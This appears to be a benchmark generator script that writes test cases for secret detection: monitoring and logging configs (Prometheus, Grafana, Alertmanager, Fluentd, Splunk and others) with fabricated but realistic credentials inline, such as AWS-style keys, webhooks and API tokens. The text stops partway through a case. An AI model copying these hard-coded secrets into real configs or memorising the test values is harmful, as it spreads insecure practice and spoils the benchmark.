# Usage: python3 set52.py SEED DIR (writes one folder per case; bench/accuracy/probes.py runs it)
# Leak probe set52 (stop 31): monitoring, logging and security tooling configs
from common import A, HEX, B62, start, r, hx, ck, add, write
start()
import base64, json, random, string, uuid  # noqa: E402  (stdlib only; all draws use the seeded random)
import urllib.parse  # noqa: E402

UP = string.ascii_uppercase
LO = string.ascii_lowercase
DIG = string.digits
B64URL = A + '-_'
PWCH = A + '!*-_.+=^'
BAD = ('example', 'test', 'dummy', 'fake', 'sample', 'xxxx', 'changeme', 'password', 'placeholder',
       'redact', 'your', 'secret', 'token', 'demo', 'admin')


def ok(v):
    low = v.lower()
    return not any(b in low for b in BAD)


def g(fn):
    """Draws until the value holds no placeholder-like word."""
    while True:
        v = fn()
        if ok(v):
            return v


def R(n, al=A):
    return g(lambda: r(n, al))


def H(n):
    return g(lambda: hx(n))


def rb(n):
    return bytes(random.getrandbits(8) for _ in range(n))


def b64(n):
    return g(lambda: base64.b64encode(rb(n)).decode())


def b64u(n, pad=False):
    def f():
        s = base64.urlsafe_b64encode(rb(n)).decode()
        return s if pad else s.rstrip('=')
    return g(f)


def u4():
    return g(lambda: str(uuid.UUID(int=random.getrandbits(128), version=4)))


def pw(n=None):
    n = n or random.randint(16, 24)
    # people's passwords: start with a letter, mix in a few symbols
    return g(lambda: r(1, string.ascii_letters) + r(n - 1, PWCH))


def upw(n=None):
    """Password safe inside a URL userinfo / DSN."""
    n = n or random.randint(16, 22)
    return g(lambda: r(1, string.ascii_letters) + r(n - 1, A + '-_.'))


def num(n):
    return r(1, '123456789') + r(n - 1, DIG)


def aws_id():
    return 'AKIA' + R(16, UP + '234567')


def aws_secret():
    return R(40, A + '+/')


def ip10():
    return '10.%d.%d.%d' % (random.randint(0, 60), random.randint(0, 254), random.randint(2, 250))


def ts():
    return random.randint(1680000000, 1730000000)


def day():
    return '2024-%02d-%02d' % (random.randint(1, 12), random.randint(1, 28))


def t(s, **kw):
    for k, v in kw.items():
        s = s.replace('@{' + k + '}', str(v))
    return s


def slack_hook():
    return ('https://hooks.slack.com/services/T' + R(random.choice([8, 10]), UP + DIG) + '/B'
            + R(random.choice([9, 11]), UP + DIG) + '/' + R(24))


def discord_hook():
    return 'https://discord.com/api/webhooks/' + num(19) + '/' + R(68, B64URL)


def tg_bot():
    return num(10) + ':AA' + R(33, B64URL)


def glc(stack, name):
    body = {"o": num(6), "n": "stack-%s-%s" % (stack, name), "k": R(24),
            "m": {"r": random.choice(["prod-us-east-0", "prod-eu-west-2", "prod-us-central-0"])}}
    return g(lambda: 'glc_' + base64.b64encode(json.dumps(body, separators=(',', ':')).encode()).decode())


def glsa():
    return 'glsa_' + R(32) + '_' + H(8)


def influx_tok():
    return b64u(64, pad=True)


def nr_license():
    return H(36) + 'NRAL'


def dt_tok():
    return 'dt0c01.' + R(24, UP + DIG) + '.' + R(64, UP + DIG)


def es_api_key():
    return R(20, B64URL) + ':' + R(22, B64URL)


def hvs():
    return 'hvs.' + R(24)


# ---------------------------------------------------------------- positives

# c01 Prometheus scrape config with basic_auth and bearer credentials inline
cl = random.choice(['eu-prod-1', 'us-east-prod', 'fra-core'])
add('c01/deploy/prometheus/prometheus.yml', t('''# Prometheus server for @{cl}
# managed by ansible role "prometheus" - do not hand-edit on the box
global:
  scrape_interval: 30s
  scrape_timeout: 10s
  evaluation_interval: 30s
  external_labels:
    cluster: @{cl}
    replica: prom-0

rule_files:
  - /etc/prometheus/rules/*.yml

alerting:
  alertmanagers:
    - scheme: http
      static_configs:
        - targets:
            - alertmanager-0.mon.internal:9093
            - alertmanager-1.mon.internal:9093

scrape_configs:
  - job_name: prometheus
    static_configs:
      - targets: ['localhost:9090']

  - job_name: node
    scheme: https
    tls_config:
      ca_file: /etc/prometheus/certs/ca.pem
    basic_auth:
      username: prometheus
      password: '@{p1}'
    file_sd_configs:
      - files: ['/etc/prometheus/targets/node_*.json']
        refresh_interval: 5m
    relabel_configs:
      - source_labels: [__address__]
        regex: '([^:]+):\\d+'
        target_label: instance
        replacement: '${1}'

  - job_name: blackbox-http
    metrics_path: /probe
    params:
      module: [http_2xx]
    static_configs:
      - targets:
          - https://shop.@{dom}/healthz
          - https://api.@{dom}/v1/ping
    relabel_configs:
      - source_labels: [__address__]
        target_label: __param_target
      - source_labels: [__param_target]
        target_label: instance
      - target_label: __address__
        replacement: blackbox-exporter:9115

  - job_name: federate-edge
    honor_labels: true
    metrics_path: /federate
    params:
      'match[]':
        - '{job=~"node|haproxy"}'
    authorization:
      type: Bearer
      credentials: @{tok}
    static_configs:
      - targets: ['edge-prom.@{dom}:443']
    scheme: https
''', cl=cl, p1=pw(), tok=R(48, B64URL), dom=random.choice(['acme-retail.net', 'northwind.io', 'contoso-shop.de'])))

# c02 Grafana Alloy config shipping to Grafana Cloud with a glc_ token
stack = num(6)
add('c02/alloy/config.alloy', t('''// Grafana Alloy - edge collector
// ships node metrics + journal logs to Grafana Cloud stack @{stack}

logging {
  level  = "info"
  format = "logfmt"
}

prometheus.exporter.unix "node" {
  set_collectors = ["cpu", "meminfo", "filesystem", "netdev", "diskstats", "loadavg"]
}

prometheus.scrape "node" {
  targets         = prometheus.exporter.unix.node.targets
  scrape_interval = "60s"
  forward_to      = [prometheus.remote_write.grafana_cloud.receiver]
}

prometheus.remote_write "grafana_cloud" {
  endpoint {
    url = "https://prometheus-prod-13-prod-us-east-0.grafana.net/api/prom/push"

    basic_auth {
      username = "@{puser}"
      password = "''' '''@{tok}"
    }
  }
  external_labels = {
    site = "@{site}",
  }
}

loki.source.journal "journal" {
  forward_to = [loki.write.grafana_cloud.receiver]
  labels     = { job = "systemd-journal", site = "@{site}" }
}

loki.write "grafana_cloud" {
  endpoint {
    url = "https://logs-prod-006.grafana.net/loki/api/v1/push"

    basic_auth {
      username = "@{luser}"
      password = "''' '''@{tok}"
    }
  }
}
''', stack=stack, puser=num(7), luser=num(6), tok=glc(stack, 'alloy-edge-write'),
    site=random.choice(['store-0412', 'dc-fra2', 'warehouse-7'])))

# c03 Alertmanager: Slack webhook, PagerDuty routing key, SMTP password
add('c03/monitoring/alertmanager/alertmanager.yml', t('''global:
  resolve_timeout: 5m
  smtp_smarthost: 'smtp.office365.com:587'
  smtp_from: 'alerts@@{dom}'
  smtp_auth_username: 'alerts@@{dom}'
  smtp_auth_password: ''' ''''@{smtp}'
  smtp_require_tls: true
  slack_api_url: '@{slack}'

templates:
  - '/etc/alertmanager/templates/*.tmpl'

route:
  receiver: slack-default
  group_by: ['alertname', 'cluster', 'service']
  group_wait: 30s
  group_interval: 5m
  repeat_interval: 4h
  routes:
    - matchers:
        - severity = "critical"
      receiver: pagerduty-oncall
      continue: true
    - matchers:
        - team = "dba"
      receiver: dba-mail

inhibit_rules:
  - source_matchers: [severity = "critical"]
    target_matchers: [severity = "warning"]
    equal: ['alertname', 'cluster']

receivers:
  - name: slack-default
    slack_configs:
      - channel: '#alerts-prod'
        send_resolved: true
        title: '{{ template "slack.default.title" . }}'
        text: '{{ template "slack.default.text" . }}'

  - name: pagerduty-oncall
    pagerduty_configs:
      - routing_key: @{pd}
        severity: '{{ .CommonLabels.severity }}'
        description: '{{ .CommonAnnotations.summary }}'

  - name: dba-mail
    email_configs:
      - to: 'dba-team@@{dom}'
        send_resolved: true
''', dom=random.choice(['acme-retail.net', 'northwind.io', 'globex.eu']), smtp=pw(), slack=slack_hook(), pd=H(32)))

# c04 kube-prometheus-stack helm values with OpsGenie / VictorOps keys inside alertmanager.config
add('c04/clusters/prod/monitoring/kube-prometheus-stack-values.yaml', t('''# helm upgrade --install kps prometheus-community/kube-prometheus-stack -n monitoring -f this-file
fullnameOverride: kps

prometheus:
  prometheusSpec:
    retention: 15d
    replicas: 2
    storageSpec:
      volumeClaimTemplate:
        spec:
          storageClassName: gp3
          resources:
            requests:
              storage: 200Gi

grafana:
  enabled: true
  adminPassword: @{gpw}
  ingress:
    enabled: true
    hosts: [grafana.prod.@{dom}]

alertmanager:
  alertmanagerSpec:
    replicas: 3
  config:
    global:
      resolve_timeout: 5m
      opsgenie_api_url: https://api.eu.opsgenie.com/
    route:
      receiver: opsgenie
      group_by: [alertname, namespace]
      routes:
        - receiver: victorops-platform
          matchers: [team="platform"]
        - receiver: "null"
          matchers: [alertname="Watchdog"]
    receivers:
      - name: "null"
      - name: opsgenie
        opsgenie_configs:
          - api_key: @{og}
            priority: '{{ if eq .CommonLabels.severity "critical" }}P1{{ else }}P3{{ end }}'
            tags: 'k8s,prod,{{ .CommonLabels.namespace }}'
      - name: victorops-platform
        victorops_configs:
          - api_key: @{vo}
            routing_key: platform-prod
            state_message: '{{ .CommonAnnotations.description }}'

kubeEtcd:
  enabled: false
''', gpw=pw(), og=u4(), vo=u4(), dom=random.choice(['acme-retail.net', 'initech.cloud'])))

# c05 Alertmanager with Telegram bot, Discord and MS Teams webhooks
org = random.choice(['contoso', 'fabrikamltd', 'initech'])
teams = ('https://%s.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s'
         % (org, u4(), u4(), H(32), u4()))
add('c05/homelab/monitoring/alertmanager/config.yml', t('''# alertmanager for the homelab / small office stack
# reloaded with: curl -X POST http://localhost:9093/-/reload
route:
  receiver: telegram
  group_wait: 20s
  group_interval: 2m
  repeat_interval: 6h
  routes:
    - matchers: [ 'severity="info"' ]
      receiver: discord
    - matchers: [ 'team="office-it"' ]
      receiver: teams

receivers:
  - name: telegram
    telegram_configs:
      - bot_token: '@{tg}'
        chat_id: -100@{chat}
        parse_mode: HTML
        send_resolved: true

  - name: discord
    discord_configs:
      - webhook_url: '@{dc}'
        title: '[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }}'

  - name: teams
    msteams_configs:
      - webhook_url: '@{teams}'
        send_resolved: true
''', tg=tg_bot(), chat=num(10), dc=discord_hook(), teams=teams))

# c06 Grafana datasource provisioning with secureJsonData
add('c06/grafana/provisioning/datasources/datasources.yaml', t('''apiVersion: 1

deleteDatasources:
  - name: Graphite-old
    orgId: 1

datasources:
  - name: Prometheus
    type: prometheus
    access: proxy
    url: http://prometheus:9090
    isDefault: true
    jsonData:
      timeInterval: 30s

  - name: Orders DB
    type: postgres
    url: pg-replica.@{dom}:5432
    user: grafana_ro
    jsonData:
      database: orders
      sslmode: require
      maxOpenConns: 5
      postgresVersion: 1400
    secureJsonData:
      password: '@{pg}'

  - name: InfluxDB IoT
    type: influxdb
    access: proxy
    url: https://influx.@{dom}:8086
    jsonData:
      version: Flux
      organization: plant-ops
      defaultBucket: sensors
    secureJsonData:
      token: @{influx}

  - name: Elasticsearch logs
    type: elasticsearch
    url: https://es.@{dom}:9200
    basicAuth: true
    basicAuthUser: grafana
    jsonData:
      index: 'logs-*'
      timeField: '@timestamp'
    secureJsonData:
      basicAuthPassword: @{es}
''', dom=random.choice(['int.acme-retail.net', 'corp.globex.eu']), pg=pw(), influx=influx_tok(), es=pw()))

# c07 grafana.ini with admin password, secret_key, SMTP and OAuth client secret
add('c07/etc/grafana/grafana.ini', t('''##################### Grafana Configuration #####################
[server]
protocol = http
http_port = 3000
domain = grafana.@{dom}
root_url = https://grafana.@{dom}/

[database]
type = mysql
host = db01.@{dom}:3306
name = grafana
user = grafana
password = """@{db}"""

[security]
admin_user = ops
admin_password = @{adm}
secret_key = @{sk}
cookie_secure = true
disable_gravatar = true

[users]
allow_sign_up = false
auto_assign_org_role = Viewer

[auth.generic_oauth]
enabled = true
name = Keycloak
allow_sign_up = true
client_id = grafana
client_secret = @{cs}
scopes = openid email profile roles
auth_url = https://sso.@{dom}/realms/corp/protocol/openid-connect/auth
token_url = https://sso.@{dom}/realms/corp/protocol/openid-connect/token
api_url = https://sso.@{dom}/realms/corp/protocol/openid-connect/userinfo
role_attribute_path = contains(roles[*], 'grafana-admin') && 'Admin' || 'Viewer'

[smtp]
enabled = true
host = smtp.sendgrid.net:587
user = apikey
password = @{sg}
from_address = grafana@@{dom}
from_name = Grafana

[log]
mode = console file
level = info
''', dom=random.choice(['acme-retail.net', 'northwind.io']), db=pw(), adm=pw(), sk=R(32),
    cs=R(32), sg='SG.' + R(22, B64URL) + '.' + R(43, B64URL)))

# c08 shell script pushing dashboards with a Grafana service account token
add('c08/scripts/push-dashboards.sh', t('''#!/usr/bin/env bash
# Pushes every dashboard JSON under dashboards/ to the shared Grafana.
# Run from repo root:  ./scripts/push-dashboards.sh [folder-uid]
set -euo pipefail

GRAFANA_URL="https://grafana.@{dom}"
GRAFANA_TOKEN="@{tok}"   # sa: ci-dashboards (Editor)
FOLDER_UID="${1:-@{folder}}"

for f in dashboards/*.json; do
  echo "-> $f"
  jq --arg folder "$FOLDER_UID" '{dashboard: ., folderUid: $folder, overwrite: true, message: "ci push"}' "$f" \\
    | curl -sS --fail-with-body \\
        -H "Authorization: Bearer ${GRAFANA_TOKEN}" \\
        -H "Content-Type: application/json" \\
        -X POST "${GRAFANA_URL}/api/dashboards/db" \\
        --data-binary @- | jq -r '.status + " " + .url'
done
''', dom=random.choice(['acme-retail.net', 'globex.eu']), tok=glsa(), folder=R(9, LO + DIG)))

# c09 Python tool with a legacy Grafana API key (eyJrIjoi...)
legacy = g(lambda: base64.b64encode(json.dumps({"k": R(32), "n": random.choice(["snapshot-bot", "reporting"]),
                                      "id": random.randint(1, 9)}, separators=(',', ':')).encode()).decode())
add('c09/tools/grafana_snapshot.py', t('''"""Nightly: render the SLO dashboard to PNG and post it to the #weekly-slo channel."""
import datetime
import pathlib

import requests

GRAFANA = "https://grafana.@{dom}"
API_KEY = "@{key}"
DASH_UID = "@{uid}"
PANELS = [2, 4, 7, 11]
OUT = pathlib.Path("/var/lib/slo-report")

session = requests.Session()
session.headers.update({"Authorization": f"Bearer {API_KEY}"})


def render(panel_id: int) -> pathlib.Path:
    resp = session.get(
        f"{GRAFANA}/render/d-solo/{DASH_UID}/slo",
        params={"orgId": 1, "panelId": panel_id, "width": 1000, "height": 500, "from": "now-7d", "to": "now"},
        timeout=60,
    )
    resp.raise_for_status()
    path = OUT / f"{datetime.date.today():%Y%m%d}-panel{panel_id}.png"
    path.write_bytes(resp.content)
    return path


if __name__ == "__main__":
    OUT.mkdir(parents=True, exist_ok=True)
    for p in PANELS:
        print(render(p))
''', dom=random.choice(['northwind.io', 'initech.cloud']), key=legacy, uid=R(9)))

# c10 Telegraf with InfluxDB v2 token and MySQL DSN password
add('c10/etc/telegraf/telegraf.conf', t('''# Telegraf Configuration - db hosts
[global_tags]
  dc = "@{dc}"
  role = "mysql"

[agent]
  interval = "10s"
  round_interval = true
  metric_batch_size = 1000
  metric_buffer_limit = 10000
  collection_jitter = "0s"
  flush_interval = "10s"
  hostname = ""
  omit_hostname = false

###############################################################################
#                            OUTPUT PLUGINS                                   #
###############################################################################
[[outputs.influxdb_v2]]
  urls = ["https://influx.mon.@{dom}:8086"]
  token = "@{tok}"
  organization = "infra"
  bucket = "telegraf"
  timeout = "5s"

###############################################################################
#                            INPUT PLUGINS                                    #
###############################################################################
[[inputs.cpu]]
  percpu = true
  totalcpu = true
[[inputs.mem]]
[[inputs.disk]]
  ignore_fs = ["tmpfs", "devtmpfs", "overlay"]
[[inputs.system]]

[[inputs.mysql]]
  servers = ["telegraf:@{mpw}@tcp(127.0.0.1:3306)/?tls=false"]
  perf_events_statements_digest_text_limit = 120
  gather_innodb_metrics = true
  gather_slave_status = true
  interval_slow = "30m"
''', dc=random.choice(['fra1', 'ams3', 'iad2']), dom=random.choice(['acme-retail.net', 'globex.eu']),
    tok=influx_tok(), mpw=upw()))

# c11 Telegraf drop-ins: Datadog output + SNMPv3 credentials
add('c11/etc/telegraf/telegraf.d/outputs-datadog.conf', t('''# Forward everything to Datadog as well (migration period, remove after Q3)
[[outputs.datadog]]
  apikey = "@{dd}"
  timeout = "5s"
  url = "https://api.datadoghq.eu/api/v1/series"
  compression = "zlib"
''', dd=H(32)))
add('c11/etc/telegraf/telegraf.d/inputs-snmp-core.conf', t('''# Core switches / firewalls - SNMPv3 authPriv
[[inputs.snmp]]
  agents = ["udp://@{ip1}:161", "udp://@{ip2}:161"]
  version = 3
  sec_name = "telegraf"
  auth_protocol = "SHA256"
  auth_password = "@{ap}"
  sec_level = "authPriv"
  priv_protocol = "AES"
  priv_password = "@{pp}"
  timeout = "5s"
  retries = 2

  [[inputs.snmp.field]]
    name = "hostname"
    oid = "RFC1213-MIB::sysName.0"
    is_tag = true

  [[inputs.snmp.table]]
    name = "interface"
    inherit_tags = ["hostname"]
    oid = "IF-MIB::ifXTable"
''', ip1=ip10(), ip2=ip10(), ap=pw(), pp=pw()))

# c12 Fluentd: S3 archive with AWS keys and Elasticsearch output password
add('c12/fluentd/etc/td-agent.conf', t('''<system>
  log_level info
  workers 2
</system>

<source>
  @type forward
  port 24224
  bind 0.0.0.0
</source>

<source>
  @type tail
  path /var/log/nginx/access.log
  pos_file /var/log/td-agent/nginx-access.pos
  tag nginx.access
  <parse>
    @type nginx
  </parse>
</source>

<match nginx.**>
  @type copy
  <store>
    @type elasticsearch
    host es-logs.@{dom}
    port 9243
    scheme https
    user fluentd_writer
    password @{espw}
    logstash_format true
    logstash_prefix nginx
    <buffer>
      @type file
      path /var/log/td-agent/buffer/es
      flush_interval 10s
    </buffer>
  </store>
  <store>
    @type s3
    aws_key_id @{ak}
    aws_sec_key @{sk}
    s3_bucket @{bucket}
    s3_region eu-central-1
    path logs/nginx/%Y/%m/%d/
    <buffer time>
      @type file
      path /var/log/td-agent/buffer/s3
      timekey 3600
      timekey_wait 10m
      chunk_limit_size 256m
    </buffer>
  </store>
</match>
''', dom=random.choice(['acme-retail.net', 'globex.eu']), espw=pw(), ak=aws_id(), sk=aws_secret(),
    bucket='logs-archive-' + R(6, LO + DIG)))

# c13 Fluent Bit classic config with Splunk HEC token and Datadog key
add('c13/fluent-bit/fluent-bit.conf', t('''[SERVICE]
    Flush         5
    Daemon        Off
    Log_Level     info
    Parsers_File  parsers.conf
    HTTP_Server   On
    HTTP_Listen   0.0.0.0
    HTTP_Port     2020

[INPUT]
    Name              tail
    Tag               kube.*
    Path              /var/log/containers/*.log
    multiline.parser  docker, cri
    DB                /var/log/flb_kube.db
    Mem_Buf_Limit     50MB
    Skip_Long_Lines   On

[FILTER]
    Name                kubernetes
    Match               kube.*
    Merge_Log           On
    Keep_Log            Off
    K8S-Logging.Parser  On

[OUTPUT]
    Name            splunk
    Match           kube.*
    Host            hec.splunk.@{dom}
    Port            8088
    TLS             On
    TLS.Verify      Off
    Splunk_Token    @{hec}
    Splunk_Send_Raw On

[OUTPUT]
    Name        datadog
    Match       kube.var.log.containers.payments*
    Host        http-intake.logs.datadoghq.eu
    TLS         on
    compress    gzip
    apikey      @{dd}
    dd_service  payments
    dd_source   kubernetes
    dd_tags     env:prod,team:payments
''', dom=random.choice(['acme-retail.net', 'initech.cloud']), hec=u4(), dd=H(32)))

# c14 Fluent Bit YAML config shipping to New Relic
add('c14/observability/fluent-bit/fluent-bit.yaml', t('''service:
  flush: 1
  log_level: info
  parsers_file: parsers.conf
  http_server: on

pipeline:
  inputs:
    - name: systemd
      tag: host.*
      systemd_filter: _SYSTEMD_UNIT=docker.service
      read_from_tail: on
    - name: tail
      tag: app.*
      path: /srv/app/logs/*.json
      parser: json

  filters:
    - name: record_modifier
      match: '*'
      record:
        - hostname ${HOSTNAME}
        - env production

  outputs:
    - name: nrlogs
      match: '*'
      base_uri: https://log-api.eu.newrelic.com/log/v1
      license_key: @{lic}
    - name: stdout
      match: host.*
      format: json_lines
''', lic=nr_license()))

# c15 Logstash pipeline: JDBC input and Elasticsearch output with passwords
add('c15/logstash/pipeline/orders-sync.conf', t('''# Sync new orders from the ERP database to Elasticsearch every 5 minutes.
input {
  jdbc {
    jdbc_driver_library => "/usr/share/logstash/drivers/mssql-jdbc-12.4.2.jre11.jar"
    jdbc_driver_class => "com.microsoft.sqlserver.jdbc.SQLServerDriver"
    jdbc_connection_string => "jdbc:sqlserver://erp-sql01.corp.local:1433;databaseName=ERP;encrypt=true;trustServerCertificate=true"
    jdbc_user => "svc_logstash"
    jdbc_password => "@{jp}"
    schedule => "*/5 * * * *"
    statement => "SELECT * FROM dbo.Orders WHERE ModifiedAt > :sql_last_value ORDER BY ModifiedAt"
    use_column_value => true
    tracking_column => "modifiedat"
    tracking_column_type => "timestamp"
  }
}

filter {
  mutate {
    rename => { "orderid" => "order_id" }
    remove_field => ["@version"]
  }
}

output {
  elasticsearch {
    hosts => ["https://es01.corp.local:9200", "https://es02.corp.local:9200"]
    index => "erp-orders-%{+YYYY.MM}"
    document_id => "%{order_id}"
    user => "logstash_internal"
    password => "@{ep}"
    ssl_certificate_authorities => ["/etc/logstash/certs/ca.crt"]
  }
}
''', jp=pw(), ep=pw()))

# c16 Burp Suite project options with platform authentication + upstream proxy credentials
burp = {
    "project_options": {
        "connections": {
            "platform_authentication": {
                "credentials": [
                    {"destination_scope": "*.%s" % random.choice(['client-intra.local', 'hr-portal.corp']),
                     "domain": "CLIENTCORP", "host": "", "password": pw(), "type": "ntlm_v2",
                     "username": "pt_" + R(4, LO)},
                    {"destination_scope": "staging-api.%s" % random.choice(['clientco.com', 'bankone.io']),
                     "password": pw(), "type": "basic", "username": "qa-scan"},
                ],
                "do_platform_authentication": True,
                "prompt_on_authentication_failure": False,
            },
            "timeouts": {"domain_name_resolution_timeout": 300000, "failed_domain_name_resolution_timeout": 60000,
                         "normal_timeout": 120000, "open_ended_response_timeout": 10000},
            "upstream_proxy": {
                "servers": [{"authentication_type": "basic", "destination_host": "*", "enabled": True,
                             "password": pw(), "proxy_host": ip10(), "proxy_port": 3128,
                             "username": "jumpbox"}],
                "use_user_options": False,
            },
        },
        "http": {"redirections": {"understand_3xx_status_code": True, "understand_javascript_driven": False}},
        "sessions": {"cookie_jar": {"monitor_proxy": True, "monitor_repeater": False, "monitor_scanner": False}},
    }
}
add('c16/engagements/2024-clientcorp/burp/project-options.json', json.dumps(burp, indent=4))

# c17 Filebeat shipping to Elastic Cloud with cloud.auth
cid = 'prod-logs:' + base64.b64encode(('europe-west3.gcp.cloud.es.io:443$%s$%s' % (H(32), H(32))).encode()).decode()
add('c17/filebeat/filebeat.yml', t('''filebeat.inputs:
  - type: filestream
    id: nginx-access
    paths:
      - /var/log/nginx/access.log*
    parsers:
      - ndjson:
          target: ""
          overwrite_keys: true
  - type: journald
    id: everything

filebeat.config.modules:
  path: ${path.config}/modules.d/*.yml
  reload.enabled: false

processors:
  - add_host_metadata:
      when.not.contains.tags: forwarded
  - add_cloud_metadata: ~
  - drop_fields:
      fields: ["agent.ephemeral_id", "ecs.version"]

setup.template.settings:
  index.number_of_shards: 1

cloud.id: "@{cid}"
cloud.auth: "elastic:@{pwd}"

logging.level: info
logging.to_files: true
logging.files:
  path: /var/log/filebeat
  keepfiles: 7
''', cid=cid, pwd=upw()))

# c18 Metricbeat modules with credentials in DSN and redis password
add('c18/metricbeat/modules.d/mysql.yml', t('''# Module: mysql
# Docs: https://www.elastic.co/guide/en/beats/metricbeat/current/metricbeat-module-mysql.html

- module: mysql
  metricsets:
    - status
    - galera_status
    - performance
  period: 10s
  # Host DSN should be defined as "user:pass@tcp(127.0.0.1:3306)/"
  hosts: ["beats:@{m}@tcp(db-primary.internal:3306)/", "beats:@{m}@tcp(db-replica.internal:3306)/"]
''', m=upw()))
add('c18/metricbeat/modules.d/redis.yml', t('''# Module: redis
- module: redis
  metricsets: ["info", "keyspace"]
  period: 10s
  hosts: ["cache-01.internal:6379", "cache-02.internal:6379"]
  password: "@{rp}"
''', rp=R(32)))

# c19 Vector TOML: Datadog logs sink and S3 archive with static AWS keys
add('c19/vector/vector.toml', t('''# Vector aggregator - receives from agents, fans out
data_dir = "/var/lib/vector"

[api]
enabled = true
address = "127.0.0.1:8686"

[sources.agents]
type = "vector"
address = "0.0.0.0:6000"

[transforms.parse]
type = "remap"
inputs = ["agents"]
source = \'\'\'
. = merge(., parse_json(.message) ?? {})
.env = "prod"
\'\'\'

[sinks.datadog]
type = "datadog_logs"
inputs = ["parse"]
default_api_key = "@{dd}"
site = "datadoghq.com"
compression = "gzip"

[sinks.archive]
type = "aws_s3"
inputs = ["parse"]
bucket = "@{bucket}"
key_prefix = "vector/%Y/%m/%d/"
region = "us-east-2"
compression = "gzip"
encoding.codec = "json"
auth.access_key_id = "@{ak}"
auth.secret_access_key = "@{sk}"
''', dd=H(32), bucket='log-archive-' + R(8, LO + DIG), ak=aws_id(), sk=aws_secret()))

# c20 Vector YAML: Honeycomb key and HTTP sink with bearer token
add('c20/deploy/vector/vector.yaml', t('''sources:
  k8s:
    type: kubernetes_logs
  host_metrics:
    type: host_metrics
    scrape_interval_secs: 30

transforms:
  only_app:
    type: filter
    inputs: [k8s]
    condition: '.kubernetes.pod_namespace != "kube-system"'

sinks:
  honeycomb:
    type: honeycomb
    inputs: [only_app]
    api_key: "@{hc}"
    dataset: k8s-logs

  audit_http:
    type: http
    inputs: [only_app]
    uri: https://audit-ingest.@{dom}/v2/events
    encoding:
      codec: json
    auth:
      strategy: bearer
      token: "@{bt}"
    batch:
      max_events: 500
''', hc=R(22), dom=random.choice(['globex.eu', 'northwind.io']), bt=R(40, B64URL)))

# c21 Zabbix server DB password + agent PSK file
add('c21/etc/zabbix/zabbix_server.conf', t('''############ GENERAL PARAMETERS #################
ListenPort=10051
LogFile=/var/log/zabbix/zabbix_server.log
LogFileSize=0
PidFile=/run/zabbix/zabbix_server.pid
SocketDir=/run/zabbix

DBHost=pgsql01.mon.local
DBName=zabbix
DBUser=zabbix
DBPassword=@{db}
DBPort=5432

StartPollers=20
StartPreprocessors=8
StartPingers=4
StartDiscoverers=3
SNMPTrapperFile=/var/log/snmptrap/snmptrap.log
CacheSize=512M
Timeout=10
FpingLocation=/usr/sbin/fping
LogSlowQueries=3000
StatsAllowedIP=127.0.0.1
EnableGlobalScripts=0
''', db=pw()))
add('c21/etc/zabbix/zabbix_agentd.psk', H(64) + '\n')
add('c21/etc/zabbix/zabbix_agentd.d/tls.conf', '''TLSConnect=psk
TLSAccept=psk
TLSPSKIdentity=PSK-web-frontends
TLSPSKFile=/etc/zabbix/zabbix_agentd.psk
''')

# c22 Zabbix API script with a hard-coded API token
add('c22/automation/zbx_maintenance.py', t('''#!/usr/bin/env python3
"""Put hosts of a host group into maintenance during patch night.

usage: zbx_maintenance.py GROUP HOURS
"""
import sys
import time

from pyzabbix import ZabbixAPI

ZBX_URL = "https://zabbix.@{dom}"
ZBX_TOKEN = "@{tok}"


def main(group: str, hours: int) -> None:
    zapi = ZabbixAPI(ZBX_URL)
    zapi.login(api_token=ZBX_TOKEN)
    groups = zapi.hostgroup.get(filter={"name": group}, output=["groupid"])
    if not groups:
        sys.exit(f"no such group: {group}")
    now = int(time.time())
    zapi.maintenance.create(
        name=f"patch-night {group} {time.strftime('%Y-%m-%d')}",
        active_since=now,
        active_till=now + hours * 3600,
        groupids=[groups[0]["groupid"]],
        timeperiods=[{"timeperiod_type": 0, "period": hours * 3600}],
    )
    print("maintenance created")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
''', dom=random.choice(['corp.globex.eu', 'it.initech.cloud']), tok=H(64)))

# c23 Icinga2 API users + Icinga Director resources.ini
add('c23/etc/icinga2/conf.d/api-users.conf', t('''/**
 * The ApiUser objects are used for authentication against the API.
 */
object ApiUser "root" {
  password = "@{p1}"
  permissions = [ "*" ]
}

object ApiUser "icingaweb2" {
  password = "@{p2}"
  permissions = [ "status/query", "actions/*", "objects/modify/*", "objects/query/*" ]
}

object ApiUser "director" {
  password = "@{p3}"
  permissions = [ "*" ]
}
''', p1=R(16, LO + DIG), p2=pw(), p3=pw()))
add('c23/etc/icingaweb2/resources.ini', t('''[icingaweb_db]
type = "db"
db = "mysql"
host = "localhost"
port = ""
dbname = "icingaweb2"
username = "icingaweb2"
password = "@{p4}"
charset = "utf8mb4"

[director_db]
type = "db"
db = "mysql"
host = "localhost"
dbname = "director"
username = "director"
password = "@{p5}"
charset = "utf8mb4"
''', p4=pw(), p5=pw()))

# c24 Splunk: heavy forwarder outputs.conf (HEC token, pass4SymmKey) and inputs.conf
hec = u4()
add('c24/splunk/etc/system/local/outputs.conf', t('''[tcpout]
defaultGroup = idx_cluster
forwardedindex.filter.disable = true
indexAndForward = false

[tcpout:idx_cluster]
server = idx01.splunk.local:9997, idx02.splunk.local:9997, idx03.splunk.local:9997
useACK = true
clientCert = $SPLUNK_HOME/etc/auth/mycerts/hf-client.pem
sslPassword = @{ssl}

[httpout]
httpEventCollectorToken = @{hec}
uri = https://hec.splunkcloud-@{stack}.splunkcloud.com:443
batchSize = 65536
batchTimeout = 30
''', ssl=pw(), hec=hec, stack=R(6, LO + DIG)))
add('c24/splunk/etc/system/local/server.conf', t('''[general]
serverName = hf01
pass4SymmKey = @{sym}

[sslConfig]
sslRootCAPath = $SPLUNK_HOME/etc/auth/mycerts/ca.pem

[clustering]
mode = searchhead
manager_uri = https://cm01.splunk.local:8089
pass4SymmKey = @{sym2}
''', sym=pw(), sym2=pw()))
add('c24/splunk/etc/apps/hec_inputs/local/inputs.conf', t('''[http]
disabled = 0
enableSSL = 1
port = 8088

[http://k8s-fluent-bit]
disabled = 0
index = k8s
indexes = k8s,k8s_audit
sourcetype = _json
token = @{tok}
useACK = 0
''', tok=u4()))

# c25 Checkmk REST API script using an automation secret
add('c25/cmk/bulk_add_hosts.py', t('''#!/usr/bin/env python3
"""Read hosts.csv (name,ip,folder) and create them in Checkmk, then activate."""
import csv
import requests

HOST_NAME = "checkmk.@{dom}"
SITE_NAME = "mon"
API_URL = f"https://{HOST_NAME}/{SITE_NAME}/check_mk/api/1.0"

USERNAME = "automation"
AUTOMATION_SECRET = "@{sec}"

